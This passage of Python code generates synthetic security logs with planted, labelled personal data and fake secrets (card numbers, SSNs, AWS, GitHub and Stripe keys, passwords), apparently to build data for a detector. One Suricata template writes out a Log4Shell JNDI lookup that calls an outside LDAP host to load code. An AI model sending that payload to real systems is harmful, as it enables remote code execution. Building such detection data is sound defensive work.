    def intl_phone(self, region=None, style=None):
        r = self.r
        reg = region or self.ch(PHONE_REGIONS)
        ex = phonenumbers.example_number_for_type(reg, phonenumbers.PhoneNumberType.MOBILE)
        nn = str(ex.national_number)
        num = ex
        for _ in range(80):
            k = min(len(nn) - 3, r.choice([4, 5, 6]))
            cand = nn[:-k] + self.digits(k)
            n = phonenumbers.PhoneNumber(country_code=ex.country_code, national_number=int(cand))
            if phonenumbers.is_valid_number(n):
                num = n
                break
        style = style or r.choices(["E164", "INTERNATIONAL", "NATIONAL"], [3, 5, 2])[0]
        return phonenumbers.format_number(num, getattr(phonenumbers.PhoneNumberFormat, style))

    def phone(self, cn_bias=0.6):
        if self.r.random() < cn_bias:
            return self.cn_mobile() if self.r.random() < 0.85 else self.cn_landline()
        return self.intl_phone()

    # -- cards, banks, ids -------------------------------------------------
    def card(self, brand=None, fmt=None):
        r = self.r
        brands = {
            "visa": (["4"], [13, 16, 16, 16, 19]), "mc": (["51", "52", "53", "54", "55", "2221", "2720", "23"], [16]),
            "amex": (["34", "37"], [15]), "discover": (["6011", "65"], [16]),
            "jcb": (["3528", "3530", "3566", "3589"], [16]), "unionpay": (["62", "6222", "6228", "6217"], [16, 17, 18, 19]),
            "diners": (["36", "38"], [14]), "maestro": (["6759", "5018", "6304"], [13, 17, 18]),
        }
        brand = brand or r.choices(list(brands), [30, 22, 10, 6, 6, 18, 4, 4])[0]
        pre, lens = brands[brand]
        p = r.choice(pre)
        n = r.choice(lens)
        body = p + self.digits(n - len(p) - 1)
        num = body + _luhn_digit(body)
        fmt = fmt or r.choices(["plain", "space", "dash"], [5, 4, 2])[0]
        if fmt == "plain":
            return num
        sep = " " if fmt == "space" else "-"
        if n == 15:
            parts = [num[:4], num[4:10], num[10:]]
        elif n == 14:
            parts = [num[:4], num[4:10], num[10:]]
        else:
            parts = [num[i:i + 4] for i in range(0, n, 4)]
        return sep.join(parts)

    def iban(self, country=None, grouped=None):
        r = self.r
        cc = country or self.ch(list(IBAN_SPEC))
        _, lay = IBAN_SPEC[cc]
        bban = "".join(r.choice(string.digits) if t == "n" else r.choice(string.ascii_uppercase) if t == "a"
                       else r.choice(string.digits + string.ascii_uppercase) for t in lay)
        chk = 98 - _iban_num(bban + cc + "00") % 97
        s = f"{cc}{chk:02d}{bban}"
        if grouped is None:
            grouped = r.random() < 0.5
        return " ".join(s[i:i + 4] for i in range(0, len(s), 4)) if grouped else s

    def ssn(self):
        r = self.r
        while True:
            a = r.randint(1, 899)
            if a != 666:
                break
        return f"{a:03d}-{r.randint(1, 99):02d}-{r.randint(1, 9999):04d}"

    def cn_id(self):
        r = self.r
        d = datetime(1958, 1, 1) + timedelta(days=r.randrange(365 * 47))
        body = self.ch(CN_AREAS) + d.strftime("%Y%m%d") + self.digits(3)
        return body + gb11643_check(body)

    def bad_serial18(self):
        while True:
            s = self.ch(["2026120", "8600", "3301", "9110", "4403"]) 
            s = s + self.digits(18 - len(s))
            if gb11643_check(s[:17]) != s[17]:
                return s

    def passport(self, country=None):
        r = self.r
        cc = country or r.choices(["CN", "US", "GB", "DE", "FR", "JP", "IN"], [40, 15, 10, 10, 8, 10, 7])[0]
        if cc == "CN":
            v = "E" + (self.digits(8) if r.random() < 0.6 else r.choice("ABCDEFGHJKLMNPQRSTUVWXYZ") + self.digits(7))
        elif cc in ("US", "GB"):
            v = self.digits(9, True) if r.random() < 0.7 else r.choice("ACDEFGHJ") + self.digits(8)
        elif cc == "DE":
            v = "C" + self.alnum(8, "CFGHJKLMNPRTVWXYZ0123456789")
        elif cc == "FR":
            v = self.digits(2) + self.alnum(2, string.ascii_uppercase) + self.digits(5)
        elif cc == "JP":
            v = r.choice(["TK", "TR", "MZ", "TH", "ME"]) + self.digits(7)
        else:
            v = r.choice("JKLMNPRSTUVZ") + self.digits(7)
        return v

    def plate(self):
        r = self.r
        prov = r.choice(CN_PROVINCES)
        city = r.choice(PLATE_LETTERS[:14])
        if r.random() < 0.25:
            tail = r.choice("DF") + self.digits(5)
        else:
            chars = list(self.digits(5))
            for _ in range(r.choice([0, 0, 1, 1, 2])):
                chars[r.randrange(5)] = r.choice(PLATE_LETTERS)
            tail = "".join(chars)
        return prov + city + self.ch(["", "", "", "·"]) + tail

    # -- network -----------------------------------------------------------
    def ip_pub(self):
        r = self.r
        while True:
            a = ipaddress.IPv4Address(r.getrandbits(32))
            o = a.packed
            if a.is_global and not a.is_multicast and o[3] not in (0, 255) and o[0] < 224:
                return str(a)

    def ip_priv(self):
        r = self.r
        k = r.randrange(3)
        if k == 0:
            return f"10.{r.randint(1, 254)}.{r.randint(0, 255)}.{r.randint(2, 254)}"
        if k == 1:
            return f"192.168.{r.randint(0, 20)}.{r.randint(2, 254)}"
        return f"172.{r.randint(16, 31)}.{r.randint(0, 255)}.{r.randint(2, 254)}"

    def ip6(self):
        r = self.r
        pre = r.choice(["2408:8207", "240e:3b4", "2409:8a55", "2a02:c7f", "2001:470", "2600:1700",
                        "2a01:4f8", "2604:a880", "2403:6200"])
        groups = pre.split(":") + [f"{r.getrandbits(16):x}" for _ in range(8 - len(pre.split(":")))]
        if r.random() < 0.4:
            groups[4] = groups[5] = "0"
        return str(ipaddress.IPv6Address(":".join(groups)))

    def ip_client(self, v6=0.15, priv=0.3):
        x = self.r.random()
        if x < v6:
            return self.ip6()
        if x < v6 + priv:
            return self.ip_priv()
        return self.ip_pub()

    def ip_server(self, public=0.3):
        r = self.r
        if r.random() < public:
            return self.ip_pub()
        return self.ch([f"10.{r.randint(0, 9)}.{r.randint(0, 30)}.{r.randint(2, 60)}",
                        f"172.16.{r.randint(0, 10)}.{r.randint(2, 60)}",
                        f"192.168.{r.randint(100, 200)}.{r.randint(2, 30)}"])

    def mac(self, sep=":", upper=False):
        s = sep.join(self.hexs(2) for _ in range(6))
        return s.upper() if upper else s

    def port(self):
        return self.r.randint(1025, 65535)

    # -- hosts, ids --------------------------------------------------------
    def ws_host(self):
        r = self.r
        k = r.randrange(5)
        if k == 0:
            return "DESKTOP-" + self.alnum(7, string.ascii_uppercase + string.digits)
        if k == 1:
            return "LAPTOP-" + self.alnum(8, string.ascii_uppercase + string.digits)
        if k == 2:
            return f"WS-{r.choice(['FIN', 'HR', 'RD', 'OPS', 'MKT', 'LEG', 'SALES'])}-{self.digits(4)}"
        if k == 3:
            return f"PC-{r.choice(['CW', 'YF', 'XZ', 'SC', 'KF'])}-{self.digits(3)}"
        return f"NB{self.digits(6)}"

    def srv_host(self):
        r = self.r
        return r.choice(["srv-db01", "dc01", "dc02", "web-prod-03", "fs01", "exch01", "bastion-01",
                         "jump-sh-02", "k8s-node-07", "erp-app-02", "vpn-gw01", "mail-gw01",
                         "oa-web-01", "crm-db-02", "git-srv01", "sensor-dmz-02"])

    def uuid(self, upper=False):
        s = str(_uuid.UUID(int=self.r.getrandbits(128), version=4))
        return s.upper() if upper else s

    def luhn16(self, first=None):
        body = (first or self.r.choice("123456789")) + self.digits(14)
        return body + _luhn_digit(body)

    def alert_id11(self):
        return "1" + self.r.choice("3456789") + self.digits(9)

    def md5(self):
        return hashlib.md5(self.r.getrandbits(128).to_bytes(16, "big")).hexdigest()

    def sha1(self):
        return hashlib.sha1(self.r.getrandbits(128).to_bytes(16, "big")).hexdigest()

    def sha256(self, upper=False):
        h = hashlib.sha256(self.r.getrandbits(128).to_bytes(16, "big")).hexdigest()
        return h.upper() if upper else h

    def trace(self, n=32):
        return self.hexs(n)

    def ticket(self):
        r = self.r
        return r.choice([f"INC{self.digits(7)}", f"SEC-2026-{self.digits(4)}", f"SIR-{self.digits(6)}",
                         f"AJ{self.digits(12)}", f"JQ2026120{r.randint(1, 9)}{self.digits(5)}"])

    # -- credentials -------------------------------------------------------
    def password(self, hard=False):
        r = self.r
        k = r.randrange(5)
        if k == 0:
            return r.choice(["Winter", "Summer", "Spring", "Autumn", "Welcome", "Company", "Qwer",
                             "Abc", "Zxcv", "Sunshine", "Dragon"]) + r.choice(["@", "#", "!", ""]) + \
                str(r.choice([2024, 2025, 2026, 123, 1234, 888])) + r.choice(["!", "", "#", "$"])
        if k == 1:
            return r.choice(WEAK_PASSWORDS)
        syms = "!@#$%^&*-_+=?~"
        if hard:
            syms += '"\\/'
        n = r.randint(10, 18)
        chars = [r.choice(string.ascii_letters + string.digits + syms) for _ in range(n)]
        chars[r.randrange(n)] = r.choice(syms)
        chars[r.randrange(n)] = r.choice(string.digits)
        return "".join(chars)

    def aws_key_id(self, temp=False):
        return ("ASIA" if temp else "AKIA") + self.alnum(16, string.ascii_uppercase + "234567")

    def aws_secret(self):
        return self.alnum(40, string.ascii_letters + string.digits + "+/")

    def ghp(self):
        return "ghp_" + self.alnum(36)

    def slack(self):
        return f"xoxb-{self.digits(12, True)}-{self.digits(13, True)}-{self.alnum(24)}"

    def stripe(self):
        return "sk_live_" + self.alnum(self.r.choice([24, 99]))

    def google_key(self):
        return "AIza" + self.alnum(35, string.ascii_letters + string.digits + "-_")

    def jwt(self):
        r = self.r
        alg = r.choice(["HS256", "RS256"])
        h = _b64url(json.dumps({"alg": alg, "typ": "JWT"}, separators=(",", ":")).encode())
        now = 1764892800 + r.randrange(10 ** 7)
        p = _b64url(json.dumps({"sub": self.uuid(), "iat": now, "exp": now + 3600,
                                "scope": r.choice(["openid profile", "api.read", "admin"])},
                               separators=(",", ":")).encode())
        sig = _b64url(r.getrandbits(256 if alg == "HS256" else 2048).to_bytes(32 if alg == "HS256" else 256, "big"))
        return f"{h}.{p}.{sig}"

    def session_id(self):
        r = self.r
        k = r.randrange(4)
        if k == 0:
            return self.hexs(32, upper=True)
        if k == 1:
            return self.alnum(26, string.ascii_lowercase + string.digits)
        if k == 2:
            return self.alnum(24, "abcdefghijklmnopqrstuvwxyz012345")
        return "s%3A" + self.alnum(32, string.ascii_letters + string.digits + "-_")

    def api_key(self):
        return self.ch([self.aws_key_id, self.ghp, self.slack, self.stripe, self.google_key,
                        lambda: "sk-proj-" + self.alnum(48, string.ascii_letters + string.digits + "-_")])()

    def ntlm(self):
        return self.hexs(32)


# ---------------------------------------------------------------------------
# record assembly
# ---------------------------------------------------------------------------
_SENT = re.compile(r"ZZQ(\d+)QZZ")

_ENC = {
    "raw": lambda v: v,
    "json": lambda v: json.dumps(v, ensure_ascii=False)[1:-1],
    "jsonu": lambda v: json.dumps(v)[1:-1],
    "url": lambda v: quote(v, safe=""),
    "form": lambda v: quote_plus(v, safe=""),
    "xml": lambda v: _xml_escape(v, {'"': "&quot;", "'": "&apos;"}),
    "csv": lambda v: v.replace('"', '""'),
}


def _encode(v, enc):
    for e in ((enc,) if isinstance(enc, str) else enc):
        v = _ENC[e](v)
    return v


class Ctx:
    """Per-record context handed to a template; delegates generators to Gen."""

    def __init__(self, gen: Gen, clean: bool):
        self.g = gen
        self.r = gen.r
        self.clean = clean
        self.items = []
        self.dt = datetime(2026, 11, 20, tzinfo=timezone.utc) + timedelta(seconds=gen.r.randrange(25 * 86400),
                                                                          microseconds=gen.r.randrange(10 ** 6))
        self.corp = gen.ch(CORP_DOMAINS)

    def __getattr__(self, name):
        return getattr(self.g, name)

    def pick(self, *fns):
        """Call one of several zero-argument callables (so only its values get planted)."""
        return self.r.choice(fns)()

    # planting
    def S(self, value, typ, enc="raw"):
        assert typ in TYPES, typ
        self.items.append(("S", str(value), typ, enc, False))
        return f"ZZQ{len(self.items) - 1}QZZ"

    def D(self, value, kind, enc="raw", num=False):
        assert kind in DECOY_KINDS, kind
        self.items.append(("D", str(value), kind, enc, num))
        return f"ZZQ{len(self.items) - 1}QZZ"

    def jd(self, obj, ascii=False, sep=(",", ":")):
        s = json.dumps(obj, ensure_ascii=ascii, separators=sep)
        return re.sub(r'"ZZQ(\d+)QZZ"',
                      lambda m: m.group(0)[1:-1] if self.items[int(m.group(1))][4] else m.group(0), s)

    # time helpers
    def local(self, tz=8):
        return self.dt + timedelta(hours=tz)

    def iso(self, frac=3, z=True, tz=0):
        d = self.local(tz)
        base = d.strftime("%Y-%m-%dT%H:%M:%S")
        if frac:
            base += "." + f"{d.microsecond:06d}"[:frac]
        if z and tz == 0:
            return base + "Z"
        return base + f"{'+' if tz >= 0 else '-'}{abs(tz):02d}:00"

    def syslog_ts(self, tz=8):
        d = self.local(tz)
        return f"{MONTHS[d.month - 1]} {d.day:2d} {d:%H:%M:%S}"

    def cn_ts(self, tz=8, sep="-"):
        return self.local(tz).strftime(f"%Y{sep}%m{sep}%d %H:%M:%S")

    def epoch(self, ms=False):
        e = int(self.dt.timestamp())
        return e * 1000 + self.dt.microsecond // 1000 if ms else e

    def epoch_f(self, prec=6):
        return f"{self.dt.timestamp():.{prec}f}"

    # masking for clean lines
    def _mask(self, typ, v):
        r = self.r
        if typ == "PERSON":
            return r.choice(["***", "[REDACTED]", "<name>", v[0] + "*" * max(1, len(v) - 1)])
        if typ == "EMAIL_ADDRESS":
            dom = v.split("@")[-1] if "@" in v else "***"
            return r.choice([v[0] + "***@" + dom, "***@***", "[email]"])
        if typ == "PHONE_NUMBER":
            d = re.sub(r"\D", "", v)
            return r.choice([d[:3] + "****" + d[-4:], "***********", "[phone]"])
        if typ == "CREDIT_CARD":
            d = re.sub(r"\D", "", v)
            return r.choice([d[:6] + "*" * (len(d) - 10) + d[-4:], "****-****-****-" + d[-4:]])
        if typ == "IBAN_CODE":
            s = v.replace(" ", "")
            return s[:4] + "*" * (len(s) - 8) + s[-4:]
        if typ == "US_SSN":
            return "***-**-" + v[-4:]
        if typ == "CN_RESIDENT_ID":
            return v[:6] + "********" + v[-4:]
        if typ == "PASSPORT":
            return v[0] + "*" * (len(v) - 4) + v[-3:]
        if typ == "LICENSE_PLATE":
            return v[:2] + "***" + v[-2:]
        if typ == "IP_ADDRESS":
            if ":" in v:
                return v.split(":")[0] + ":****:****"
            return r.choice([".".join(v.split(".")[:2]) + ".*.*", "x.x.x.x", "***.***.***.***"])
        return r.choice(["********", "[REDACTED]", "***", "<redacted>"])

    def assemble(self, raw: str, tno: int) -> dict:
        n_dec = sum(1 for it in self.items if it[0] == "D")
        repl, same = {}, {}
        if self.clean:
            for i, it in enumerate(self.items):
                if it[0] == "S":
                    if n_dec < 3 and self.r.random() < 0.75:
                        ph = same.setdefault((it[1], it[2]), self._mask(it[2], it[1]))
                        repl[i] = (_encode(ph, it[3]), "masked")
                        n_dec += 1
                    else:
                        repl[i] = ("-", None)
        out, spans, decoys, seen = [], [], [], set()
        pos = cur = 0
        for m in _SENT.finditer(raw):
            lit = raw[pos:m.start()]
            out.append(lit)
            cur += len(lit)
            i = int(m.group(1))
            if i in seen:
                raise RuntimeError(f"template {tno}: sentinel {i} used twice")
            seen.add(i)
            kind, val, lab, enc, _ = self.items[i]
            if i in repl:
                s, lab2 = repl[i]
                target = decoys if lab2 else None
            else:
                s, lab2 = _encode(val, enc), lab
                target = spans if kind == "S" else decoys
            out.append(s)
            if target is not None:
                target.append([cur, cur + len(s), lab2])
            cur += len(s)
            pos = m.end()
        out.append(raw[pos:])
        if len(seen) != len(self.items):
            raise RuntimeError(f"template {tno}: planted item not placed")
        return {"text": "".join(out), "spans": spans, "decoys": decoys, "template": tno}


# ---------------------------------------------------------------------------
# checking
# ---------------------------------------------------------------------------
_PASSPORT_WORD = re.compile(r"(passport|护照|Pass(?:port)?\s*No|Reisepass|passeport|pasaporte|旅券)",
                            re.I)
_PLATE_RE = re.compile(r"[" + CN_PROVINCES + r"][A-Z]·?[A-Z0-9]{5,6}")


def _type_ok(typ, v, text, start):
    d = _decode(v)
    if typ == "CREDIT_CARD":
        s = re.sub(r"[ -]", "", d)
        return 13 <= len(s) <= 19 and luhn_ok(s)
    if typ == "CN_RESIDENT_ID":
        return cn_id_ok(d)
    if typ == "IBAN_CODE":
        return iban_ok(d)
    if typ == "PHONE_NUMBER":
        return phone_ok(v)
    if typ == "US_SSN":
        return ssn_ok(d)
    if typ == "EMAIL_ADDRESS":
        return re.fullmatch(r"[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\.[A-Za-z]{2,}", d) is not None
    if typ == "IP_ADDRESS":
        try:
            ipaddress.ip_address(d)
            return True
        except ValueError:
            return False
    if typ == "LICENSE_PLATE":
        return _PLATE_RE.fullmatch(d) is not None
    if typ == "PASSPORT":
        return (re.fullmatch(r"[A-Z0-9]{8,10}", d) is not None
                and _PASSPORT_WORD.search(text[max(0, start - 100):start]) is not None)
    return d == d.strip() and len(d) > 0


def _occurrences(text, v):
    if re.fullmatch(r"[\x21-\x7e]+", v) and v[0].isalnum() and v[-1].isalnum():
        pat = re.compile(r"(?<![A-Za-z0-9])" + re.escape(v) + r"(?![A-Za-z0-9])")
    else:
        pat = re.compile(re.escape(v))
    i = 0
    while True:
        m = pat.search(text, i)
        if not m:
            return
        yield m.start(), m.end()
        i = m.start() + 1


_ASCII_ALNUM = frozenset(string.ascii_letters + string.digits)
_ESC_BEFORE = re.compile(r"(\\u[0-9a-fA-F]{4}|\\[ntr]|%[0-9A-Fa-f]{2})$")  # value right after an escape


def check_record(rec) -> str | None:
    """Return None if the record is well-formed, else a description of the problem."""
    try:
        text, spans, decoys = rec["text"], rec["spans"], rec["decoys"]
        if not isinstance(text, str) or not isinstance(rec["template"], int):
            return "bad field types"
        if "ZZQ" in text:
            return "sentinel left in text"
        if not (0 <= len(spans) <= 3 and 0 <= len(decoys) <= 3):
            return f"counts spans={len(spans)} decoys={len(decoys)}"
        iv = []
        for s, e, lab in spans:
            if lab not in TYPES:
                return f"unknown TYPE {lab}"
            iv.append((s, e))
        for s, e, lab in decoys:
            if lab not in DECOY_KINDS:
                return f"unknown KIND {lab}"
            iv.append((s, e))
        for s, e in iv:
            if not (0 <= s < e <= len(text)):
                return f"offsets out of range {s},{e}"
        iv.sort()
        for (a, b), (c, d) in zip(iv, iv[1:]):
            if c < b:
                return f"overlap {a},{b} / {c},{d}"
        for s, e, lab in spans:
            v = text[s:e]
            if v != v.strip():
                return f"whitespace around {lab} {v!r}"
            if not _type_ok(lab, v, text, s):
                return f"invalid {lab} {v!r}"
            if lab != "CREDENTIAL":
                if (v[0] in _ASCII_ALNUM and s > 0 and text[s - 1] in _ASCII_ALNUM
                        and not _ESC_BEFORE.search(text, max(0, s - 6), s)):
                    return f"{lab} {v!r} starts inside a token"
                if v[-1] in _ASCII_ALNUM and e < len(text) and text[e] in _ASCII_ALNUM:
                    return f"{lab} {v!r} ends inside a token"
            for a, b in _occurrences(text, v):
                if not any(x <= a and b <= y for x, y, _ in spans):
                    return f"{lab} {v!r} also occurs unlabelled at {a}"
        for s, e, lab in decoys:
            if text[s:e] != text[s:e].strip():
                return f"whitespace around decoy {lab}"
    except (KeyError, TypeError, ValueError) as exc:
        return f"malformed record: {exc}"
    return None


def validate(records) -> None:
    """Raise AssertionError on the first malformed record."""
    for i, rec in enumerate(records):
        err = check_record(rec)
        assert err is None, f"record {i} (template {rec.get('template')}): {err}\n{rec.get('text')}"


# ---------------------------------------------------------------------------
# templates
# ---------------------------------------------------------------------------
TEMPLATES = []
TEMPLATE_NAMES = []


def tpl(name):
    def deco(fn):
        TEMPLATES.append(fn)
        TEMPLATE_NAMES.append(name)
        return fn
    return deco


# === templates go here ===

SURI_SIGS = [
    (2001219, 20, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 22, None, 2),
    (2034647, 2, "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
     "Attempted Administrator Privilege Gain", 8080, "http", 1),
    (2010935, 3, "ET SCAN Suspicious inbound to MSSQL port 1433", "Potentially Bad Traffic", 1433, None, 2),
    (2010937, 3, "ET SCAN Suspicious inbound to mySQL port 3306", "Potentially Bad Traffic", 3306, None, 2),
    (2024364, 4, "ET SCAN Possible Nmap User-Agent Observed", "Web Application Attack", 80, "http", 1),
    (2027394, 2, "ET SCAN RDP Connection Attempt from Nmap", "Misc activity", 3389, None, 3),
    (2019284, 3, "ET EXPLOIT Possible CVE-2014-6271 Attempt in HTTP Cookie", "Attempted Administrator Privilege Gain",
     80, "http", 1),
]


def _suri_ts(c):
    return c.local(8).strftime("%Y-%m-%dT%H:%M:%S.") + f"{c.dt.microsecond:06d}+0800"


@tpl("suricata_eve_alert")
def t_suri_alert(c):
    sid, rev, sig, cat, dport, app, sev = c.ch(SURI_SIGS)
    v6 = c.r.random() < 0.15
    src = c.ip6() if v6 else c.ip_pub()
    dst = c.ip6() if v6 else c.ip_server(0.3)
    ev = {"timestamp": _suri_ts(c), "flow_id": c.D(c.luhn16(), "event_id", num=True),
          "in_iface": c.ch(["eth1", "ens192", "bond0", "enp3s0f1"]), "event_type": "alert",
          "src_ip": c.S(src, "IP_ADDRESS"), "src_port": c.port(), "dest_ip": c.D(dst, "server_ip"),
          "dest_port": dport, "proto": "TCP",
          "alert": {"action": c.ch(["allowed", "blocked"]), "gid": 1,
                    "signature_id": c.D(sid, "signature_id", num=True), "rev": rev, "signature": sig,
                    "category": cat, "severity": sev}}
    if app == "http":
        if "log4j" in sig:
            ua = "${jndi:ldap://" + c.S(c.ip_pub(), "IP_ADDRESS") + ":1389/Basic/Command/Base64/" + \
                 _b64url(c.alnum(12).encode()) + "}"
        elif "6271" in sig:
            ua = c.ch(UA)
        else:
            ua = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
        ev["http"] = {"hostname": c.ch(["www.", "portal.", "api."]) + c.corp, "url": c.ch(["/", "/index.jsp", "/cgi-bin/status"]),
                      "http_user_agent": ua, "http_method": "GET", "protocol": "HTTP/1.1",
                      "status": c.ch([200, 403, 404]), "length": c.r.randint(0, 9000)}
        ev["app_proto"] = "http"
    ev["flow"] = {"pkts_toserver": c.r.randint(1, 9), "pkts_toclient": c.r.randint(0, 9),
                  "bytes_toserver": c.r.randint(60, 4000), "bytes_toclient": c.r.randint(0, 9000),
                  "start": _suri_ts(c)}
    return c.jd(ev)


@tpl("suricata_eve_http")
def t_suri_http(c):
    src = c.ip_client(v6=0.1, priv=0.5)
    host = c.ch(["sso.", "portal.", "oa.", "mail.", "vpn."]) + c.corp
    k = c.r.randrange(3)
    if k == 0:
        p = c.person()
        url = "/api/v2/password/reset?email=" + c.S(c.email(p, corp=c.corp), "EMAIL_ADDRESS", "url") + "&lang=" + c.ch(["en", "zh-CN"])
        method, status = "GET", 302
    elif k == 1:
        p = c.person("cnwest")
        url = "/wp-login.php?log=" + c.S(p.login, "PERSON", "url") + "&pwd=" + c.S(c.password(), "CREDENTIAL", "url") + "&wp-submit=Log+In"
        method, status = "GET", 200
    else:
        url = "/portal/download.do?file=Q4_report.xlsx&sid=" + c.S(c.session_id(), "CREDENTIAL", "url")
        method, status = "GET", 200
    ev = {"timestamp": _suri_ts(c), "flow_id": int(c.digits(16, True)), "in_iface": "eth1",
          "event_type": "http", "src_ip": c.S(src, "IP_ADDRESS"), "src_port": c.port(),
          "dest_ip": c.D(c.ip_server(0.2) if ":" not in src else c.ip6(), "server_ip"), "dest_port": c.ch([80, 8080]),
          "proto": "TCP", "tx_id": c.r.randint(0, 5),
          "http": {"hostname": host, "url": url, "http_user_agent": c.ch(UA),
                   "http_content_type": "text/html", "http_method": method, "protocol": "HTTP/1.1",
                   "status": status, "length": c.r.randint(0, 30000)}}
    return c.jd(ev)


@tpl("zeek_http_log")
def t_zeek_http(c):
    p = c.person("cnwest")
    uid = "C" + c.alnum(17)
    host = c.ch(["intranet.", "jenkins.", "nas.", "kibana.", "wiki."]) + c.corp
    fields = [c.D(c.epoch_f(6), "timestamp_digits"), c.D(uid, "trace_id"), c.S(c.ip_client(v6=0.05, priv=0.7), "IP_ADDRESS"),
              str(c.port()), c.D(c.ip_server(0.1), "server_ip"), c.ch(["80", "8080", "5601"]), "1",
              c.ch(["GET", "POST"]), host, c.ch(["/", "/admin/", "/api/status", "/login"]), "-", "1.1",
              c.ch(UA), "-", "0", str(c.r.randint(0, 20000))] + list(c.ch([("200", "OK"), ("401", "Unauthorized"), ("302", "Found")])) + [
              "-", "-", "(empty)",
              c.S(p.login, "PERSON"), c.S(c.password(), "CREDENTIAL"), "-", "-", "-", "-",
              "F" + c.alnum(17), "-", c.ch(["text/html", "application/json"])]
    return "\t".join(fields)


@tpl("sshd_auth")
def t_sshd(c):
    p = c.person("cnwest")
    ip = c.S(c.ip_client(v6=0.1, priv=0.2), "IP_ADDRESS")
    port = c.port()
    k = c.r.randrange(7)
    if k == 0:
        msg = f"Failed password for {c.S(p.login, 'PERSON')} from {ip} port {port} ssh2"
    elif k == 1:
        msg = f"Failed password for invalid user {c.D(c.ch(TRIED_USERS), 'system_account')} from {ip} port {port} ssh2"
    elif k == 2:
        msg = f"Accepted password for {c.S(p.login, 'PERSON')} from {ip} port {port} ssh2"
    elif k == 3:
        msg = (f"Accepted publickey for {c.S(p.login, 'PERSON')} from {ip} port {port} ssh2: "
               f"{c.ch(['RSA', 'ED25519', 'ECDSA'])} SHA256:{c.alnum(43, string.ascii_letters + string.digits + '+/')}")
    elif k == 4:
        msg = f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user={c.S(p.login, 'PERSON')}"
    elif k == 5:
        msg = f"error: maximum authentication attempts exceeded for {c.S(p.login, 'PERSON')} from {ip} port {port} ssh2 [preauth]"
    else:
        msg = f"Connection closed by authenticating user {c.D('root', 'system_account')} {ip} port {port} [preauth]"
    host = c.D(c.srv_host(), "hostname")
    pid = c.D(c.r.randint(1000, 4194304), "process_id")
    if c.r.random() < 0.6:
        return f"{c.syslog_ts()} {host} sshd[{pid}]: {msg}"
    return f"{c.iso(6, z=False, tz=8)} {host} sshd[{pid}]: {msg}"


OKTA_EVENTS = [
    ("user.session.start", "User login to Okta", "SUCCESS", None, "INFO", "core.user_auth.login_success"),
    ("user.session.start", "User login to Okta", "FAILURE", "INVALID_CREDENTIALS", "WARN", "core.user_auth.login_failed"),
    ("user.authentication.auth_via_mfa", "Authentication of user via MFA", "FAILURE", "INVALID_CREDENTIALS", "WARN", None),
    ("user.account.lock", "Max sign in attempts exceeded", "FAILURE", "LOCKED_OUT", "WARN", "core.user_auth.account_locked"),
    ("user.mfa.okta_verify.deny_push", "User rejected Okta push verify", "FAILURE", None, "WARN", None),
    ("policy.evaluate_sign_on", "Evaluation of sign-on policy", "DENY", "Sign-on policy evaluation resulted in DENY", "INFO", None),
]


@tpl("okta_system_log")
def t_okta(c):
    p = c.person(c.ch(["west", "west", "zh", "ja"]))
    et, dm, res, reason, sev, legacy = c.ch(OKTA_EVENTS)
    city, state, country, _ = c.ch(CITIES_EN)
    ev = {"actor": {"id": c.D("00u" + c.alnum(17), "user_id"), "type": "User",
                    "alternateId": c.S(c.email(p, corp=c.corp, free=False), "EMAIL_ADDRESS", "json"),
                    "displayName": c.S(p.full, "PERSON", "json"), "detailEntry": None},
          "client": {"userAgent": {"rawUserAgent": c.ch(UA), "os": c.ch(["Windows 10", "Mac OS X", "iOS"]),
                                   "browser": c.ch(["CHROME", "SAFARI", "FIREFOX", "UNKNOWN"])},
                     "zone": "null", "device": c.ch(["Computer", "Mobile"]), "id": None,
                     "ipAddress": c.S(c.ip_client(v6=0.2, priv=0.0), "IP_ADDRESS"),
                     "geographicalContext": {"city": c.D(city, "place"), "state": state, "country": country,
                                             "postalCode": None,
                                             "geolocation": {"lat": round(c.r.uniform(-40, 60), 4),
                                                             "lon": round(c.r.uniform(-120, 140), 4)}}},
          "displayMessage": dm, "eventType": et, "outcome": {"result": res, "reason": reason},
          "published": c.iso(3), "securityContext": {"asNumber": c.r.randint(1000, 64000), "asOrg": c.ch(["comcast", "amazon", "china telecom", "ovh sas"]),
                                                      "isp": None, "domain": None, "isProxy": c.r.random() < 0.2},
          "severity": sev, "legacyEventType": legacy, "uuid": c.D(c.uuid(), "uuid"), "version": "0"}
    return c.jd(ev)


AAD_STATUS = [
    (0, None, "success"), (50126, "Error validating credentials due to invalid username or password.", "notApplied"),
    (50053, "Account is locked because user tried to sign in too many times with an incorrect user ID or password.", "notApplied"),
    (50074, "Strong Authentication is required.", "success"), (53003, "Access has been blocked by Conditional Access policies.", "failure"),
    (500121, "Authentication failed during strong authentication request.", "success"),
]


@tpl("azure_ad_signin")
def t_aad(c):
    p = c.person(c.ch(["west", "zh", "any"]))
    code, reason, ca = c.ch(AAD_STATUS)
    city, state, _, cc = c.ch(CITIES_EN)
    upn = p.local + "@" + c.corp
    ev = {"id": c.D(c.uuid(), "uuid"), "createdDateTime": c.iso(0), "userDisplayName": c.S(p.full, "PERSON", "json"),
          "userPrincipalName": c.S(upn, "EMAIL_ADDRESS"), "userId": c.uuid(),
          "appId": c.ch(["00000002-0000-0ff1-ce00-000000000000", "4765445b-32c6-49b0-83e6-1d93765276ca"]),
          "appDisplayName": c.ch(["Office 365 Exchange Online", "OfficeHome", "Microsoft Teams", "Azure Portal"]),
          "ipAddress": c.S(c.ip_client(v6=0.2, priv=0.0), "IP_ADDRESS"),
          "clientAppUsed": c.ch(["Browser", "Mobile Apps and Desktop clients", "IMAP4", "Authenticated SMTP"]),
          "correlationId": c.uuid(), "conditionalAccessStatus": ca, "isInteractive": True,
          "riskDetail": "none", "riskLevelAggregated": c.ch(["none", "low", "medium", "high"]), "riskState": "none",
          "status": {"errorCode": code, "failureReason": reason or "Other.", "additionalDetails": None},
          "deviceDetail": {"deviceId": "", "displayName": c.D(c.ws_host(), "hostname"),
                           "operatingSystem": c.ch(["Windows10", "MacOs", "Ios"]), "browser": "Chrome 131.0.0",
                           "isCompliant": False, "isManaged": c.r.random() < 0.5, "trustType": ""},
          "location": {"city": c.D(city, "place"), "state": state, "countryOrRegion": cc,
                       "geoCoordinates": {"altitude": None, "latitude": round(c.r.uniform(-40, 60), 5),
